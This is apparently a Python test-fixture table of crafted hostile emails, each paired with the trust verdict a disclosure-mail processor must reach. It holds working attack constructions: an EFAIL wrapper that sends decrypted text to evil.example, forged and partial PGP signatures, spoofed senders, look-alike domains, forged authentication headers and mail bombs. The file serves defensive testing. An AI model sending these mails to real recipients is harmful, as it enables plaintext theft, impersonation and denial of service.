"""The table of hostile mails: what each is, and the verdict that it must get (PRODUCT section 6).

Every mail goes to a live reply address of the case, so its match is certain: only the trust in it decides whether it
is filed, and whether anything in it is believed.  Beside the lies stand the honest mails they are made from.
"""

from __future__ import annotations

import base64
import functools
import struct
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import timedelta

from cli.lab import MAILBOX, VENDOR
from cvdmail.core import packets
from cvdmail.core.gpgstatus import SignatureState as S
from cvdmail.core.records import MessageState as M
from cvdmail.core.trust import Trust
from work.forge import Forge
from work.hostile import HOST, crlf, entity

PASS = f"Authentication-Results: {HOST}; dmarc=pass header.from=vendor.example"
HOP = "Received: from a.example by b.example; Sat, 21 Nov 2026 10:00:00 +0000"
EIGHT_DAYS = timedelta(days=8)
LIST = ("List-Id: Security <security.lists.example>", "Precedence: list")
FOOTER = f"{'_' * 47}\nSecurity mailing list\nsecurity@lists.example\nhttps://lists.example/mailman/listinfo/security\n"


@dataclass(frozen=True)
class Verdict:
    """What must become of a mail; ``read`` says whether its facts may be read at all."""

    signature: S | None
    trust: Trust | None
    state: M
    read: bool = True

    @property
    def believed(self) -> bool:
        return self.state is M.FILED and self.trust in (Trust.VERIFIED, Trust.AUTHENTICATED) and self.read


@dataclass(frozen=True)
class Hostile:
    """One mail of the table."""

    name: str
    verdict: Verdict
    make: Callable[[Forge], bytes]
    later: timedelta = timedelta(0)
    """How much later than now it arrives."""
    soon: bool = False
    """Whether it must be made before the key that signs it expires."""


VERIFIED = Verdict(S.GOOD, Trust.VERIFIED, M.FILED)
AUTHENTIC = Verdict(S.NONE, Trust.AUTHENTICATED, M.FILED)
NOBODY = Verdict(S.NONE, Trust.UNAUTHENTICATED, M.FILED)
NOT_READ = Verdict(S.NONE, Trust.UNAUTHENTICATED, M.FILED, read=False)
CLOSED = Verdict(S.NONE, Trust.UNAUTHENTICATED, M.HELD, read=False)
UNPARSED = Verdict(None, None, M.UNPARSED, read=False)
DOUBTFUL = Verdict(S.NONE, Trust.SUSPICIOUS, M.HELD)


def filed(signature: S, *, read: bool = True) -> Verdict:
    """Signed in a way that says nothing: as good as unsigned."""
    return Verdict(signature, Trust.UNAUTHENTICATED, M.FILED, read)


def held(signature: S, *, read: bool = True) -> Verdict:
    """Something about the signature, or about what it covers, is wrong."""
    return Verdict(signature, Trust.SUSPICIOUS, M.HELD, read)


# --- honest -----------------------------------------------------------------------------------------------------------


def _signed(f: Forge) -> bytes:
    return f.head() + f.signed(f.part, f.sign(f.part))


def _both(f: Forge) -> bytes:
    return f.head() + f.encrypted(f.message(f.part))


def _mangled(f: Forge) -> bytes:
    version = b"Content-Type: application/pgp-encrypted; name=PGPMIME\r\n\r\nVersion: 1\r\n"
    data = f.octets(f.message(f.part), "Content-Disposition: attachment; filename=encrypted.asc")
    return f.head() + f.multipart("mixed", entity("\n"), version, data)


HONEST = [
    Hostile("signed", VERIFIED, _signed),
    Hostile("encrypted and signed in one", VERIFIED, _both),
    Hostile(
        "signed, then encrypted",
        VERIFIED,
        lambda f: f.head() + f.encrypted(f.message(f.signed(f.part, f.sign(f.part)), signed=False)),
    ),
    Hostile("clear-signed", VERIFIED, lambda f: f.head() + entity(f.clear(f.words))),
    Hostile(
        "clear-signed, in quoted-printable",
        VERIFIED,
        lambda f: (
            f.head()
            + entity(f.clear(f.words).replace("=", "=3D"), "text/plain", "Content-Transfer-Encoding: quoted-printable")
        ),
    ),
    Hostile("inline encrypted and signed", VERIFIED, lambda f: f.head() + entity(f.message(f.words.encode()).decode())),
    Hostile("taken apart by Exchange", VERIFIED, _mangled),
    Hostile(
        "compressed",
        VERIFIED,
        lambda f: f.head() + f.encrypted(f.message(f.part, "--compress-algo", "zlib")),
    ),
    Hostile("encrypted, not signed", NOBODY, lambda f: f.head() + f.encrypted(f.message(f.part, signed=False))),
    Hostile(
        "inline encrypted, not signed",
        NOBODY,
        lambda f: f.head() + entity(f.message(f.words.encode(), signed=False).decode()),
    ),
    Hostile("plain, authentic", AUTHENTIC, lambda f: f.head(PASS) + f.part),
]

# --- partial signatures -----------------------------------------------------------------------------------------------


def _thanks(f: Forge) -> bytes:
    """A signed part that says nothing; the facts stand beside it."""
    part = entity(f"thank you for {f.name}\n")
    return f.signed(part, f.sign(part))


def _by_reference(f: Forge) -> bytes:
    html = f'<html><img src="cid:x@y"><p>{f.words}</p></html>'
    return f.head() + f.multipart("related", entity(html, "text/html"), _thanks(f))


def _in_list(f: Forge, *above: str, footer: str = FOOTER, sender: str = VENDOR) -> bytes:
    outside = f.head(*above, sender=sender)
    return outside + f.multipart("mixed", f.signed(f.part, f.sign(f.part)), entity(footer))


def _two_blocks(f: Forge) -> bytes:
    return f.head() + entity(f.clear("thank you\n") + "\n" + f.clear(f.words))


def _extra_armor_header(f: Forge) -> bytes:
    text = f.clear("thank you\n").replace("Hash: SHA512\n", f"Hash: SHA512\n{f.words.replace(chr(10), ' ')}\n", 1)
    return f.head() + entity(text)


def _three(f: Forge) -> bytes:
    part = entity("thank you\n")
    whole = f.signed(part, f.sign(part))
    return f.head() + whole.replace(b"\r\n--=-s--\r\n", b"\r\n--=-s\r\n" + f.part + b"\r\n--=-s--\r\n")


def _words_before_armour(f: Forge) -> bytes:
    part = entity("<p>thank you</p>\n", "text/html")
    return f.head() + f.signed(part, f.sign(part), before=f"{f.words}\r\n".replace("\n", "\r\n"))


PARTIAL = [
    Hostile(
        "unsigned text before a signed part",
        held(S.PARTIAL),
        lambda f: f.head() + f.multipart("mixed", f.part, _thanks(f)),
    ),
    Hostile(
        "unsigned text behind a signed part",
        held(S.PARTIAL, read=False),
        lambda f: f.head() + f.multipart("mixed", _thanks(f), f.part),
    ),
    Hostile(
        "a signed mail as an attachment",
        NOT_READ,
        lambda f: (
            f.head()
            + f.multipart(
                "mixed",
                entity("see below\n"),
                b"Content-Type: message/rfc822\r\n\r\n" + f.head() + f.signed(f.part, f.sign(f.part)),
            )
        ),
    ),
    Hostile("a signed part by reference", held(S.PARTIAL, read=False), _by_reference),
    Hostile(
        "two texts, the second clear-signed",
        held(S.PARTIAL),
        lambda f: f.head() + f.multipart("mixed", f.part, entity(f.clear("thank you\n"))),
    ),
    Hostile(
        "a text part and its clear-signed HTML",
        held(S.PARTIAL),
        lambda f: f.head() + f.multipart("alternative", entity(f.clear(f.words)), entity("<p>x</p>", "text/html")),
    ),
    Hostile("in a list's frame", filed(S.PARTIAL), lambda f: _in_list(f, *LIST)),
    Hostile(
        "in a list's frame, From rewritten",
        filed(S.PARTIAL),
        lambda f: _in_list(f, *LIST, sender='"PSIRT via Security" <security@lists.example>'),
    ),
    Hostile("in the frame of no list", held(S.PARTIAL), _in_list),
    Hostile(
        "through a list, with a text that is no frame",
        held(S.PARTIAL),
        lambda f: _in_list(f, *LIST, footer="We will publish this tomorrow.\n"),
    ),
    Hostile(
        "clear-signed in a list's footer", filed(S.PARTIAL), lambda f: f.head(*LIST) + entity(f.clear(f.words) + FOOTER)
    ),
    Hostile(
        "words before clear-signed text",
        held(S.PARTIAL),
        lambda f: f.head() + entity(f.words + "\n" + f.clear("thank you\n")),
    ),
    Hostile(
        "words behind clear-signed text",
        held(S.PARTIAL),
        lambda f: f.head() + entity(f.clear("thank you\n") + "\n" + f.words),
    ),
    Hostile("two clear-signed texts", held(S.PARTIAL), _two_blocks),
    Hostile("words among the armour headers", held(S.PARTIAL), _extra_armor_header),
    Hostile(
        "a form feed in clear-signed text",
        held(S.PARTIAL),
        lambda f: f.head() + entity(f.clear(f.words).replace("ticket", "ticket\f")),
    ),
    Hostile(
        "a NUL in clear-signed text",
        held(S.PARTIAL),
        lambda f: f.head() + entity(f.clear(f.words).replace("ticket", "ticket\0")),
    ),
    Hostile(
        "a long line in clear-signed text",
        held(S.PARTIAL),
        lambda f: f.head() + entity(f.clear("x" * 21_000 + "\n" + f.words)),
    ),
    Hostile(
        "a clear-signed text that was changed",
        held(S.BAD),
        lambda f: f.head() + entity(f.clear(f.words).replace("January", "February")),
    ),
    Hostile("a third part in a signed mail", held(S.ERROR, read=False), _three),
    Hostile(
        "two signatures in one part",
        held(S.ERROR),
        lambda f: f.head() + f.signed(f.part, f.sign(f.part) + f.sign(b"x")),
    ),
    Hostile("words before the signature", held(S.ERROR, read=False), _words_before_armour),
    Hostile(
        "a signature that is none",
        held(S.ERROR),
        lambda f: f.head() + f.signed(f.part, b"-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n"),
    ),
    Hostile(
        "no signature in its place",
        held(S.ERROR),
        lambda f: f.head() + f.signed(f.part, f.sign(f.part), kind="text/plain"),
    ),
    Hostile(
        "S/MIME",
        filed(S.UNKNOWN_KEY),
        lambda f: f.head() + f.signed(f.part, b"MIAG", kind="application/pkcs7-signature"),
    ),
    Hostile(
        "unsigned text beside a signed part, encrypted",
        held(S.PARTIAL),
        lambda f: f.head() + f.encrypted(f.message(f.multipart("mixed", f.part, _thanks(f)), signed=False)),
    ),
    Hostile(
        "an unsigned file beside signed words",
        held(S.PARTIAL),
        lambda f: (
            f.head()
            + f.multipart(
                "mixed", entity(f.message(f.words.encode()).decode()), f.octets(b"x", "Content-Disposition: attachment")
            )
        ),
    ),
]

# --- ciphertext in the wrong place, and unsound ciphertext ------------------------------------------------------------


def _efail(f: Forge) -> bytes:
    return f.head() + f.multipart(
        "mixed",
        entity('<img src="http://evil.example/', "text/html"),
        f.encrypted(f.message(f.part)),
        entity('">', "text/html"),
    )


def _no_mdc(f: Forge) -> bytes:
    options = ("--rfc2440", "--disable-mdc", "--cipher-algo", "AES")
    return f.head() + f.encrypted(f.message(f.part, *options, signed=False))


def _flipped(f: Forge, position: int, *, signed: bool = False) -> bytes:
    data = bytearray(f.binary(f.message(f.part, signed=signed)))
    data[position] ^= 1
    return f.head() + f.encrypted(f.armored(bytes(data)))


def _cut(f: Forge, off: int) -> bytes:
    """Shorter, with a length that fits: only the integrity check can tell."""
    data = f.binary(f.message(f.part, signed=False))
    start = next(iter(packets.packets(data))).end
    found = list(packets.packets(data))[1]
    body = data[found.start : found.end][:-off]
    return f.head() + f.encrypted(f.armored(data[:start] + b"\xd2\xff" + struct.pack(">I", len(body)) + body))


def _literal(f: Forge) -> bytes:
    return f.gpg("--store", "--compress-level", "0", data=f.part)


def _inside(f: Forge) -> bytes:
    return f.head() + f.encrypted(f.message(f.encrypted(f.message(f.part))))


CIPHERTEXT = [
    Hostile("ciphertext between HTML parts (EFAIL)", CLOSED, _efail),
    Hostile(
        "ciphertext below the root",
        CLOSED,
        lambda f: f.head() + f.multipart("mixed", entity("see below\n"), f.encrypted(f.message(f.part))),
    ),
    Hostile(
        "ciphertext in a signed mail",
        CLOSED,
        lambda f: f.head() + f.multipart("mixed", f.encrypted(f.message(f.part)), _thanks(f)),
    ),
    Hostile("ciphertext in ciphertext", Verdict(S.GOOD, Trust.VERIFIED, M.HELD, read=False), _inside),
    Hostile(
        "words before an encrypted block",
        CLOSED,
        lambda f: f.head() + entity("Hello\n\n" + f.message(f.words.encode()).decode()),
    ),
    Hostile(
        "words behind an encrypted block",
        CLOSED,
        lambda f: f.head() + entity(f.message(f.words.encode()).decode() + "\nBye\n"),
    ),
    Hostile("two encrypted blocks", CLOSED, lambda f: f.head() + entity(2 * f.message(f.words.encode()).decode())),
    Hostile(
        "words in the empty part that Exchange leaves",
        NOT_READ,
        lambda f: _mangled(f).replace(b"utf-8\r\n\r\n\r\n", b"utf-8\r\n\r\nHello\r\n", 1),
    ),
    Hostile(
        "a third part in an encrypted mail",
        replace(CLOSED, read=True),
        lambda f: (
            f.head()
            + f.encrypted(f.message(f.part)).replace(b"\r\n--=-e--\r\n", b"\r\n--=-e\r\n" + f.part + b"\r\n--=-e--\r\n")
        ),
    ),
    Hostile("no integrity protection", CLOSED, _no_mdc),
    Hostile("a flipped byte of text", CLOSED, lambda f: _flipped(f, -60)),
    Hostile("a flipped byte of signed text", CLOSED, lambda f: _flipped(f, -120, signed=True)),
    Hostile("a flipped integrity code", CLOSED, lambda f: _flipped(f, -1)),
    Hostile("without its integrity code", CLOSED, lambda f: _cut(f, 22)),
    Hostile("cut short", CLOSED, lambda f: _cut(f, 60)),
    Hostile(
        "two messages in one", CLOSED, lambda f: f.head() + f.encrypted(f.armored(2 * f.binary(f.message(f.part))))
    ),
    Hostile("clear text in the armour of a message", CLOSED, lambda f: f.head() + f.encrypted(f.armored(_literal(f)))),
    Hostile(
        "signed, not encrypted, in the armour of a message",
        CLOSED,
        lambda f: (
            f.head()
            + f.encrypted(
                f.armored(f.gpg("--compress-level", "0", "-u", f"{f.lab.keys['vendor']}!", "--sign", data=f.part))
            )
        ),
    ),
    Hostile("two texts in one message", CLOSED, lambda f: f.head() + f.encrypted(f.wrapped(2 * _literal(f)))),
    Hostile(
        "encrypted with a password",
        CLOSED,
        lambda f: f.head() + f.encrypted(f.gpg("--armor", "--passphrase", "x", "--symmetric", data=f.part)),
    ),
    Hostile("encrypted to somebody else", CLOSED, lambda f: f.head() + f.encrypted(f.message(f.part, to="vendor"))),
    Hostile(
        "a text of 50 MB in a small mail",
        CLOSED,
        lambda f: (
            f.head()
            + f.encrypted(
                f.message(b"\0" * 50_000_000, "--compress-algo", "zlib", "--compress-level", "1", signed=False)
            )
        ),
    ),
    Hostile("no ciphertext at all", CLOSED, lambda f: f.head() + f.encrypted(b"hello\n")),
]

# --- signers ----------------------------------------------------------------------------------------------------------


def _detached(f: Forge, *options: str, user: str = "", who: str = "vendor") -> bytes:
    return f.head() + f.signed(f.part, f.sign(f.part, *options, user=user, who=who))


def _signature(f: Forge, data: bytes, who: str) -> bytes:
    return packets.dearmor(f.sign(data, who=who), packets.Armor.SIGNATURE)


def _two_signers(f: Forge, second: bytes) -> bytes:
    both = _signature(f, f.part, "vendor") + second
    return f.head() + f.signed(f.part, f.armored(both, "PGP SIGNATURE"))


def _as_header(f: Forge) -> bytes:
    """Words that begin with what would be lost as a header, and their signature as text."""
    return crlf("We cannot confirm any of what follows.\n\n" + f.words)


def _words_as_entity(f: Forge) -> bytes:
    sealed = f.gpg("--compress-level", "0", "--textmode", "--digest-algo", "SHA512", "-u", f"{f.lab.keys['vendor']}!",
                   "--sign", data=_as_header(f))  # fmt: skip
    return f.head() + f.encrypted(f.wrapped(sealed))


SIGNERS = [
    Hostile(
        "signed words in the place of a signed part",
        held(S.ERROR),
        lambda f: f.head() + f.signed(_as_header(f), f.sign(_as_header(f), "--textmode")),
    ),
    Hostile("signed words in the place of an encrypted entity", held(S.ERROR), _words_as_entity),
    Hostile(
        "a good signature and a bad one",
        held(S.BAD),
        lambda f: _two_signers(f, _signature(f, b"other words", "vendor")),
    ),
    Hostile(
        "a good signature and an unknown one",
        filed(S.UNKNOWN_KEY),
        lambda f: _two_signers(f, _signature(f, f.part, "cy")),
    ),
    Hostile("the same signature twice", held(S.ERROR), lambda f: _two_signers(f, _signature(f, f.part, "vendor"))),
    Hostile("signed by a stranger", filed(S.UNKNOWN_KEY), lambda f: _detached(f, who="cy")),
    Hostile(
        "encrypted, signed by a stranger",
        filed(S.UNKNOWN_KEY),
        lambda f: f.head() + f.encrypted(f.message(f.part, who="cy")),
    ),
    Hostile(
        "clear-signed by a stranger", filed(S.UNKNOWN_KEY), lambda f: f.head() + entity(f.clear(f.words, who="cy"))
    ),
    Hostile(
        "signed words that were changed",
        held(S.BAD),
        lambda f: f.head() + f.signed(f.part.replace(b"January", b"February"), f.sign(f.part)),
    ),
    Hostile("SHA-1", filed(S.WEAK), lambda f: _detached(f, "--digest-algo", "SHA1")),
    Hostile("RIPEMD-160", filed(S.WEAK), lambda f: _detached(f, "--digest-algo", "RIPEMD160")),
    Hostile("SHA-224", filed(S.WEAK), lambda f: _detached(f, "--digest-algo", "SHA224")),
    Hostile(
        "SHA-1, encrypted",
        filed(S.WEAK),
        lambda f: (
            f.head()
            + f.encrypted(
                f.wrapped(
                    f.gpg(
                        "--digest-algo",
                        "SHA1",
                        "--compress-level",
                        "0",
                        "-u",
                        f"{f.lab.keys['vendor']}!",
                        "--sign",
                        data=f.part,
                    )
                )
            )
        ),
    ),
    Hostile("an expired subkey", held(S.STALE), lambda f: _detached(f, user=f"{f.expired}!"), soon=True),
    Hostile("a revoked subkey", held(S.ERROR), lambda f: _detached(f, user=f"{f.revoked}!")),
    Hostile("a signature that has expired", held(S.STALE), lambda f: _detached(f, "--default-sig-expire", "seconds=1")),
    Hostile("signed tomorrow", held(S.STALE), lambda f: _detached(f, *f.at(timedelta(days=1)))),
    Hostile("signed eight days ago", held(S.STALE), _detached, EIGHT_DAYS),
    Hostile("clear-signed eight days ago", held(S.STALE), lambda f: f.head() + entity(f.clear(f.words)), EIGHT_DAYS),
    Hostile("encrypted, signed eight days ago", held(S.STALE), _both, EIGHT_DAYS),
]

# --- the right words in the wrong place -------------------------------------------------------------------------------


def _protected(f: Forge, *lines: str) -> bytes:
    part = entity(f.words, 'text/plain; protected-headers="v1"', *lines)
    return f.head() + f.signed(part, f.sign(part))


PLACES = [
    Hostile("signed for us", VERIFIED, lambda f: _protected(f, f"From: {VENDOR}", f"To: {MAILBOX}")),
    Hostile("signed for somebody else", held(S.GOOD), lambda f: _protected(f, "To: other@lab2.example")),
    Hostile(
        "signed for somebody else, encrypted to us",
        held(S.GOOD),
        lambda f: f.head() + f.encrypted(f.message(entity(f.words, "text/plain", "To: other@lab2.example"))),
    ),
    Hostile(
        "signed in another name", held(S.GOOD), lambda f: _protected(f, "From: ceo@vendor.example", f"To: {MAILBOX}")
    ),
    Hostile("signed with two From inside", held(S.GOOD), lambda f: _protected(f, f"From: {VENDOR}", f"From: {VENDOR}")),
    Hostile(
        "signed under another Message-ID", held(S.GOOD), lambda f: _protected(f, "Message-ID: <other@vendor.example>")
    ),
    Hostile("signed under an old date", held(S.GOOD), lambda f: _protected(f, "Date: Thu, 01 Jan 2026 10:00:00 +0000")),
]

# --- who it says it is from -------------------------------------------------------------------------------------------

_BENT = [
    ("two From", "x@evil.example\nFrom: " + VENDOR),
    ("two mailboxes", f"{VENDOR}, x@evil.example"),
    ("a group", f"vendor: {VENDOR};"),
    ("an address in a comment", f"x@evil.example ({VENDOR})"),
    ("an address behind a comment", f"{VENDOR}(<x@evil.example>)"),
    ("an address as the name of another", f"{VENDOR} <x@evil.example>"),
    ("two addresses in brackets", f"<{VENDOR}> <x@evil.example>"),
    ("an address in an encoded word", f"=?utf-8?q?{VENDOR.replace('@', '=40')}?= <x@evil.example>, {VENDOR}"),
    ("an encoded word for an address", f"=?utf-8?q?{VENDOR.replace('@', '=40')}?="),
    ("a NUL", f"{VENDOR}\0 <x@evil.example>"),
    ("a NUL in the address", VENDOR.replace("@", "\0@")),
    ("a quoted local part", '"security team"@vendor.example'),
    ("a quoted at-sign", '"security@vendor.example x"@evil.example'),
    ("a route", f"<@evil.example:{VENDOR}>"),
    ("a semicolon", f"{VENDOR}; x@evil.example"),
    ("nothing", ""),
    ("a domain of digits", "security@[127.0.0.1]"),
]


def _from(sender: str, f: Forge) -> bytes:
    """In somebody's name, and our host says that it is the vendor."""
    return f.head(PASS, sender=sender) + f.part


SENDERS = [
    *(Hostile(f"From is {name}", DOUBTFUL, functools.partial(_from, value)) for name, value in _BENT),
    Hostile("no From", DOUBTFUL, lambda f: f.head(PASS, sender=None) + f.part),
    Hostile(
        "two From, well signed",
        held(S.GOOD),
        lambda f: f.head(sender=VENDOR + "\nFrom: x@evil.example") + f.signed(f.part, f.sign(f.part)),
    ),
    Hostile(
        "From bears a known address as its quoted name",
        NOBODY,
        lambda f: f.head(PASS, sender=f'"{VENDOR}" <x@evil.example>') + f.part,
    ),
    Hostile(
        "From bears a known name",
        NOBODY,
        lambda f: f.head(PASS, sender="PSIRT vendor.example <x@evil.example>") + f.part,
    ),
]

_LIKE = [
    ("one letter other", "vend0r.example"),
    ("two letters exchanged", "vnedor.example"),
    ("one letter more", "vendors.example"),
    ("letters that look like another", "venclor.example"),
    ("a Cyrillic letter", "vend\u043er.example".encode("idna").decode()),
    ("a dot below a letter", "v\u1eb9ndor.example".encode("idna").decode()),
    ("the same name elsewhere", "vendor.com"),
    ("the whole name in another domain", "vendor.example.evil.test"),
    ("the name as a sub-domain", "vendor.evil.test"),
    ("the name with dashes", "vendor-example.test"),
]
LOOK_ALIKES = [
    *(
        Hostile(f"look-alike: {name}", DOUBTFUL, functools.partial(_from, f"security@{domain}"))
        for name, domain in _LIKE
    ),
    Hostile("a help desk of the vendor", NOBODY, lambda f: f.head(sender="support@vendor.zendesk.com") + f.part),
    Hostile("a sub-domain of the vendor", NOBODY, lambda f: f.head(sender="psirt@mail.vendor.example") + f.part),
    Hostile("another domain", NOBODY, lambda f: f.head(sender="psirt@elsewhere.example") + f.part),
]

_AR = f"Authentication-Results: {HOST};"
RESULTS = [
    Hostile("our result below other hosts", NOBODY, lambda f: f.head(HOP, HOP, PASS) + f.part),
    Hostile(
        "our result below another's",
        NOBODY,
        lambda f: f.head("Authentication-Results: mx.evil.example; none", PASS) + f.part,
    ),
    Hostile(
        "our name in a comment",
        NOBODY,
        lambda f: (
            f.head(f"Authentication-Results: mx.evil.example ({HOST}); dmarc=pass header.from=vendor.example") + f.part
        ),
    ),
    Hostile(
        "a pass in a comment of ours",
        NOBODY,
        lambda f: (
            f.head(f"{_AR} spf=pass (; dmarc=pass header.from=vendor.example) smtp.mailfrom=x@evil.example") + f.part
        ),
    ),
    Hostile(
        "a pass in a quoted string of ours",
        NOBODY,
        lambda f: (
            f.head(f'{_AR} spf=pass smtp.mailfrom="; dmarc=pass header.from=vendor.example"@evil.example') + f.part
        ),
    ),
    Hostile(
        "a pass for another domain", NOBODY, lambda f: f.head(f"{_AR} dmarc=pass header.from=evil.example") + f.part
    ),
    Hostile(
        "our result twice, the upper one fails",
        DOUBTFUL,
        lambda f: f.head(f"{_AR} dmarc=fail header.from=vendor.example", PASS) + f.part,
    ),
    Hostile(
        "our result fails, the signature is good",
        VERIFIED,
        lambda f: f.head(f"{_AR} dmarc=fail header.from=vendor.example") + f.signed(f.part, f.sign(f.part)),
    ),
]

# --- bombs ------------------------------------------------------------------------------------------------------------


def _deep(f: Forge) -> bytes:
    inside = f.part
    for number in range(60):
        inside = f.multipart("mixed", inside, boundary=f"b{number}x")
    return f.head() + inside


def _forwarded_deep(f: Forge) -> bytes:
    return f.head() + b"Content-Type: message/rfc822\r\n\r\n" * 60 + f.part


BOMBS = [
    Hostile("nested 60 deep", UNPARSED, _deep),
    Hostile("forwarded 60 times", UNPARSED, _forwarded_deep),
    Hostile("1001 parts", UNPARSED, lambda f: f.head() + f.multipart("mixed", *[b"\r\nx"] * 1001)),
    Hostile(
        "a header of 300 KB",
        UNPARSED,
        lambda f: f.head(*[f"X-{number}: {'x' * 900}" for number in range(330)]) + f.part,
    ),
    Hostile("a field of 20 KB", UNPARSED, lambda f: f.head("X-Long: " + "x" * 20_000) + f.part),
    Hostile("1001 fields", UNPARSED, lambda f: f.head(*["X: y"] * 1001) + f.part),
    Hostile("a subject of encoded words", NOBODY, lambda f: f.head(subject="=?utf-8?q?=41?= " * 900) + f.part),
    Hostile("a million references", NOBODY, lambda f: f.head("References: " + "<a@b.example> " * 15_000) + f.part),
]

# --- charsets, boundaries, types --------------------------------------------------------------------------------------


def _charset(f: Forge, name: str, data: bytes) -> bytes:
    return f.head() + f"Content-Type: text/plain; charset={name}\r\n\r\n".encode() + data


def _utf7(f: Forge) -> bytes:
    packed = base64.b64encode(f.words.encode("utf-16-be")).rstrip(b"=")
    return _charset(f, "utf-7", b"+" + packed + b"-")


def _clear_other_charset(f: Forge) -> bytes:
    return _charset(f, "utf-16-be", f.clear(f.words).replace("\n", "\r\n").encode())


def _boundary_in_preamble(f: Forge) -> bytes:
    body = b"--bb\r\n\r\nhello\r\n--bb--\r\n" + b"--b\r\n" + f.part + b"\r\n--b--\r\n"
    return f.head() + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + body


def _twice(f: Forge) -> bytes:
    return f.head("Content-Type: text/html") + f.part


CONTENT = [
    Hostile("UTF-7", NOT_READ, _utf7),
    Hostile("a charset that is none (idna)", NOBODY, lambda f: _charset(f, "idna", crlf(f.words))),
    Hostile("an unknown charset", NOBODY, lambda f: _charset(f, "x-klingon", crlf(f.words))),
    Hostile(
        "overlong UTF-8",
        NOT_READ,
        lambda f: _charset(f, "utf-8", crlf(f.words).replace(b"-", b"\xc0\xad").replace(b"EXV", b"\xc1\x85XV")),
    ),
    Hostile("signed letters under another charset", VERIFIED, _clear_other_charset),
    Hostile("the start of its boundary in the preamble", NOBODY, _boundary_in_preamble),
    Hostile(
        "a boundary that never ends", NOBODY, lambda f: f.head() + f.multipart("mixed", f.part).replace(b"--=-b--", b"")
    ),
    Hostile(
        "no boundary",
        NOT_READ,
        lambda f: f.head() + b"Content-Type: multipart/mixed\r\n\r\n--b\r\n" + f.part + b"\r\n--b--",
    ),
    Hostile("two types", NOT_READ, _twice),
    Hostile(
        "a part of a mail (message/partial)",
        NOT_READ,
        lambda f: f.head() + b'Content-Type: message/partial; id="x@y"; number=1; total=2\r\n\r\n' + f.part,
    ),
    Hostile(
        "a body elsewhere (message/external-body)",
        NOT_READ,
        lambda f: (
            f.head()
            + b'Content-Type: message/external-body; access-type=URL; URL="http://evil.example/"\r\n\r\n'
            + f.part
        ),
    ),
    Hostile(
        "a forwarded mail with the facts",
        NOT_READ,
        lambda f: (
            f.head()
            + f.multipart("mixed", entity("see below\n"), b"Content-Type: message/rfc822\r\n\r\n" + f.head() + f.part)
        ),
    ),
    Hostile(
        "TNEF",
        NOT_READ,
        lambda f: f.head() + b"Content-Type: application/ms-tnef; name=winmail.dat\r\n\r\n" + crlf(f.words),
    ),
    Hostile(
        "facts in hidden HTML",
        NOT_READ,
        lambda f: f.head() + entity(f'<p>Hello</p><div style="display:none">{f.words}</div>', "text/html"),
    ),
    Hostile(
        "facts in HTML of no size",
        NOT_READ,
        lambda f: f.head() + entity(f'<p>Hello</p><span style="font-size:0">{f.words}</span>', "text/html"),
    ),
    Hostile(
        "facts in another alternative",
        NOT_READ,
        lambda f: f.head() + f.multipart("alternative", entity("Hello\n"), entity(f"<p>{f.words}</p>", "text/html")),
    ),
    Hostile(
        "facts in an attachment",
        NOT_READ,
        lambda f: (
            f.head()
            + f.multipart("mixed", entity("Hello\n"), entity(f.words, "text/plain", "Content-Disposition: attachment"))
        ),
    ),
    Hostile(
        "zero-width letters in the facts", NOT_READ, lambda f: f.head() + entity(f.words.replace("EXV", "E\u200bXV"))
    ),
    Hostile(
        "right-to-left override in the facts",
        NOBODY,
        lambda f: f.head(subject="\u202etroper") + entity(f.words.replace("release", "\u202erelease")),
    ),
    Hostile(
        "only bytes",
        NOT_READ,
        lambda f: f.head() + b"Content-Type: application/octet-stream\r\n\r\n" + bytes(range(256)) * 40,
    ),
]

MAILS = [*HONEST, *PARTIAL, *CIPHERTEXT, *SIGNERS, *PLACES, *SENDERS, *LOOK_ALIKES, *RESULTS, *BOMBS, *CONTENT]
